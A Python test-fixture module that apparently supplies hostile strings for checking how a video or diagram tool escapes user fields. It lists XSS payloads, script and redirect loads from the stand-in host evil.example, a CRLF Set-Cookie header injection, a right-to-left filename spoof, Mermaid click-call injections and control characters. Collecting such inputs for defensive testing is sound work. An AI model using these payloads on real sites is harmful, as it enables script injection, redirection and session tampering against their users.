"""Texts that mean something to whoever draws, prints or shows them: each may stand in any field of a video."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<math><mtext><script>alert(1)",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)",
    "--><script>alert(1)</script>", "<!-- --!><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</bdi><script>alert(1)</script>", "</dd></dl><script>alert(1)</script>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example><input name=a>", "<object data=//evil.example/a>", "<embed src=//evil.example/a>",
    "<style>*{background:url(//evil.example/a)}</style>", "<img src=//evil.example/a.png>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</script>", "<SCRIPT SRC=//evil.example/a.js>", "<img src=`x` onerror=alert(1)>",
    "<x onclick=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
    "<portal src=//evil.example>", "<audio src=//evil.example/a onerror=alert(1)>", "<plaintext>", "<xmp>", "<title>",
    "<svg><use href='data:image/svg+xml;base64,AA'/></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><foreignObject><script>alert(1)</script>",
    "<math href=javascript:alert(1)>x</math>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<img srcset='//evil.example/a 1x'>", "<video poster=//evil.example/a>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "<table background=//evil.example/a>", "<button formaction=javascript:alert(1)>x</button>",
)  # fmt: skip
CONTROLS = (
    "\x1b[2J\x1b[31mred", "a\x00b", "\x07bell", "\r\nSet-Cookie: a=b", "\u202egnp.exe", "\u2066\u2067\u2069",
    "\u200f\u200e\u061c", "\x85\u2028\u2029", "\ufeff\u200b", "\u0000\u0001\u001f\x7f\x9f",
)  # fmt: skip
DRAWINGS = (
    'a"b', "a'b", "a`b", 'a"]; x["b', 'a"] --> b', "--> b", "a -->|x| b", "%% comment", "%%{init: {}}%%", "end",
    "subgraph x", "click v1 call alert(1)", 'click v1 "javascript:alert(1)"', "style v1 fill:#f00;",
    "classDef a fill:#f00;",
    "linkStyle 0 stroke:#f00;", "a;b;c", "a#35;b", "a&amp;b", "#quot;", "ﬂ°°60¶ß", "1. one", "- item", "`**bold**`",
    "_em_ __strong__ a_b", "www.example.com", "fa:fa-car", "a\\b", "ends with \\", '\\"', "\\N\\G\\n", "a}b{c",
    "<b>x</b>",
    "a]b[c", "a)b(c", "a|b", "a>b<c", "/* a */", "// a", "# a", "digraph {", 'a" -> "b', "\n\n---\ntitle: x\n---",
    "@{ shape: x }",
    "$$x^2$$", "https://evil.example/?a=b&c=d", "🎬 東京 ١٢٣ é", "x" * 900_000,
)  # fmt: skip
HOSTILE = (*SCRIPTS, *CONTROLS, *DRAWINGS)
